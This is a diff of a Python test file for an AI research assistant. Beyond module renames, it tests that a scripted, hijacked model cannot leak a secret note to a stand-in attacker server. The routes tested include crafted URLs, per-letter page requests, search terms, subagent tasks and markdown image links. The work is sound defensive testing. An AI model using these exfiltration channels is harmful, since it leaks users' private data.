@@ -17,13 +17,13 @@ from pydantic_ai.messages import ModelMessage, ToolReturnPart
 from pydantic_ai.models.function import AgentInfo, DeltaToolCall
 
 from pincite import events
-from pincite.agent.browsing import Browsing
-from pincite.agent.house import House
-from pincite.agent.models import Models
+from pincite.answer.page_reader import PageReader
+from pincite.answer.services import Services
+from pincite.llm.model_roles import Models
 from pincite.types import Exchange
-from pincite.web.visitor import Visitor
+from pincite.web.polite_client import PoliteClient
 from tests import sites
-from tests.agent.outside import article, found, scripted
+from tests.answer.outside import article, found, scripted
 from tests.sites import Site
 from tests.turns import Piece, ask, final, of_type, open_test_house
 
@@ -93,13 +93,19 @@ def web() -> Iterator[Web]:
 
 
 @pytest.fixture(scope="module")
-def house(web: Web, tmp_path_factory: pytest.TempPathFactory) -> Iterator[House]:
+def house(web: Web, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Services]:
     note = f"# Note on the lake\n\n{SECRET}\n\nSee {web.bad('/listed')} and [this]({web.bad('/a')}).\n"
     allow = [f"127.0.0.1:{web.site.port}", f"127.0.0.1:{web.evil.port}"]
-    settings = {"allow": allow, "pause_seconds": 0, "render": False, "search_url": f"http://{web.site.host}"}
+    settings = {
+        "allow": allow,
+        "pause_seconds": 0,
+        "page_seconds": 120,
+        "render": False,
+        "search_url": f"http://{web.site.host}",
+    }
     path = tmp_path_factory.mktemp("leaving")
     made = open_test_house(path, {"note.md": note}, web=settings, models={"requests": 80, "tool_calls": 80})
-    made.browsing = Browsing(made.library, Visitor(made.settings, made.library.web_parser, web.look_up))
+    made.page_reader = PageReader(made.library, PoliteClient(made.settings, made.library.web_parser, web.look_up))
     yield made
     made.close()
 
@@ -112,7 +118,7 @@ def recorded(web: Web, monkeypatch: pytest.MonkeyPatch) -> None:
         web.videos.append(given)
         raise WebError("This video has no transcript.")
 
-    monkeypatch.setattr("pincite.agent.web_requests.transcript", transcript)
+    monkeypatch.setattr("pincite.answer.web_requests.fetch_transcript", transcript)
     web.begin()
 
 
@@ -213,7 +219,7 @@ ADDRESSES = {
     ("way", "tool"),
     [*((way, "scrape_web_page") for way in ADDRESSES), ("query", "url_summarization"), ("query", "pdf_loader")],
 )
-def test_no_composed_address_is_opened(house: House, web: Web, way: str, tool: str) -> None:
+def test_no_composed_address_is_opened(house: Services, web: Web, way: str, tool: str) -> None:
     url = ADDRESSES[way].format(port=web.site.port, evil=web.evil.port)
     history = (Exchange("Hello.", f"I read {web.bad('/answered?q=tangerine')} for you."),)
     # The page is found and read first, so that its address and its links are known.
@@ -240,14 +246,14 @@ def test_no_composed_address_is_opened(house: House, web: Web, way: str, tool: s
         "http://lake.example.:{port}/lake?utm_term=x",
     ],
 )
-def test_however_a_model_spells_a_known_address_the_same_bytes_leave(house: House, web: Web, spelling: str) -> None:
+def test_however_a_model_spells_a_known_address_the_same_bytes_leave(house: Services, web: Web, spelling: str) -> None:
     calls = [search("lake depth"), page(spelling.format(port=web.site.port))]
     ask(scripted(house, hijacked(*calls)), QUESTION)
     assert set(web.pages()) == {f"lake.example:{web.site.port}/lake", f"lake.example:{web.site.port}/deep"}
     assert set(web.names) == {"lake.example"}
 
 
-def test_letters_sent_one_address_at_a_time_do_not_leave(house: House, web: Web) -> None:
+def test_letters_sent_one_address_at_a_time_do_not_leave(house: Services, web: Web) -> None:
     calls = [page(web.bad(f"/{letter}")) for letter in "tangerine"]
     ask(scripted(house, hijacked(*calls)), QUESTION)
     assert web.evil.connections == []
@@ -279,7 +285,7 @@ QUERIES: dict[str, list[Call]] = {
 
 
 @pytest.mark.parametrize("way", QUERIES)
-def test_no_search_repeats_a_document_or_about_me(house: House, web: Web, way: str) -> None:
+def test_no_search_repeats_a_document_or_about_me(house: Services, web: Web, way: str) -> None:
     said = ask(scripted(house, hijacked(*QUERIES[way])), QUESTION, profile=PROFILE)
     assert of_type(said, events.ToolCallError)
     together = "".join(each.value for each in final(said).sent if each.kind == "search")
@@ -291,7 +297,7 @@ def test_no_search_repeats_a_document_or_about_me(house: House, web: Web, way: s
 
 
 @pytest.mark.parametrize("language", ["tangerine", "tan-ge", "ta-ngerine", "ott"])
-def test_the_language_of_a_search_has_no_room_for_words(house: House, web: Web, language: str) -> None:
+def test_the_language_of_a_search_has_no_room_for_words(house: Services, web: Web, language: str) -> None:
     ask(scripted(house, hijacked(search("lake depth", language=language))), QUESTION)
     (query,) = web.queries()
     assert query.partition("language=")[2].partition("&")[0] in ("", "ta")
@@ -301,14 +307,14 @@ def test_the_language_of_a_search_has_no_room_for_words(house: House, web: Web, 
     "given",
     ["tangerine-k", "https://youtu.be/tangerine-k", f"{VIDEO}&t=tangerine", "https://youtu.be/dQw4w9WgXcQ?si=kestrel"],
 )
-def test_a_video_is_asked_for_by_the_id_that_the_user_wrote_alone(house: House, web: Web, given: str) -> None:
+def test_a_video_is_asked_for_by_the_id_that_the_user_wrote_alone(house: Services, web: Web, given: str) -> None:
     named = (Exchange(f"Watch {VIDEO}", "I did."), *[Exchange("Thank you.", "Good.")] * 3)
     ask(scripted(house, hijacked(page(given, "youtube_transcript"))), QUESTION, history=named)
     assert set(web.videos) <= {VIDEO}
     assert not [name for name in web.names if carries(name)]
 
 
-def test_subagents_send_no_more_than_the_turn_they_work_for(house: House, web: Web) -> None:
+def test_subagents_send_no_more_than_the_turn_they_work_for(house: Services, web: Web) -> None:
     url = web.bad(f"/?q={whole}")
     tasks = [
         {"subagent": "file_analyzer", "task": f"Read {url}"},
@@ -322,7 +328,7 @@ def test_subagents_send_no_more_than_the_turn_they_work_for(house: House, web: W
     assert not [query for query in web.queries() if carries_run(query)]
 
 
-def test_sections_of_a_report_send_nothing_either(house: House, web: Web) -> None:
+def test_sections_of_a_report_send_nothing_either(house: Services, web: Web) -> None:
     sections = [{"heading": "One", "question": SECRET}, {"heading": "Two", "question": f"Open {web.bad('/' + slug)}"}]
     script = hijacked(search(SECRET), page(web.bad(f"/{slug}")))
     said = ask(scripted(house, script, system=lambda _: json.dumps({"sections": sections})), QUESTION, focus="research")
@@ -331,7 +337,7 @@ def test_sections_of_a_report_send_nothing_either(house: House, web: Web) -> Non
     assert not [query for query in web.queries() if carries_run(query)]
 
 
-def test_pictures_and_links_in_an_answer_are_fetched_by_nobody(house: House, web: Web) -> None:
+def test_pictures_and_links_in_an_answer_are_fetched_by_nobody(house: Services, web: Web) -> None:
     says = f"![x]({web.bad('/p.png?q=' + slug)}) [y]({web.bad('/y?q=' + slug, slug[:40] + '.evil.example')})"
     said = ask(scripted(house, hijacked(says=says)), QUESTION)
     assert not final(said).media
@@ -340,15 +346,15 @@ def test_pictures_and_links_in_an_answer_are_fetched_by_nobody(house: House, web
 
 def test_the_page_loads_nothing_from_elsewhere_and_looks_no_name_up_ahead() -> None:
     """A link in an answer may name a host that is made of a document's words: browsers look names up before a click."""
-    from pincite.server import interface
+    from pincite.server import ui_files
 
-    assert "default-src 'none'" in interface._POLICY
-    assert "img-src 'self' data: blob:" in interface._POLICY
-    assert interface._HEADERS["X-DNS-Prefetch-Control"] == "off"
-    assert interface._HEADERS["Referrer-Policy"] == "no-referrer"
+    assert "default-src 'none'" in ui_files._POLICY
+    assert "img-src 'self' data: blob:" in ui_files._POLICY
+    assert ui_files._HEADERS["X-DNS-Prefetch-Control"] == "off"
+    assert ui_files._HEADERS["Referrer-Policy"] == "no-referrer"
 
 
-def test_a_page_that_is_linked_or_redirected_to_is_opened_as_it_is_linked(house: House, web: Web) -> None:
+def test_a_page_that_is_linked_or_redirected_to_is_opened_as_it_is_linked(house: Services, web: Web) -> None:
     """The checks are no wall: what was found and linked can be read, under exactly the address that was given."""
     linked = web.bad("/linked?id=7")
     calls = [search("lake depth"), page(linked)]
@@ -363,14 +369,14 @@ def test_a_page_that_is_linked_or_redirected_to_is_opened_as_it_is_linked(house:
     assert said.sent[-1].value == linked
 
 
-def test_a_refusal_names_the_addresses_that_may_be_opened(house: House, web: Web) -> None:
+def test_a_refusal_names_the_addresses_that_may_be_opened(house: Services, web: Web) -> None:
     said = ask(scripted(house, hijacked(search("lake depth"), page(web.bad("/x")))), QUESTION)
     (refused,) = of_type(said, events.ToolCallError)
     assert "was not opened" in refused.error
     assert web.good("/lake")[:20] in refused.error
 
 
-def test_nothing_leaves_where_nothing_is_searched_outside(house: House, web: Web) -> None:
+def test_nothing_leaves_where_nothing_is_searched_outside(house: Services, web: Web) -> None:
     house.models = Models(house.settings)
     said = final(ask(house, "What does the note say about the vault?", focus="documents"))
     assert said.sent == []
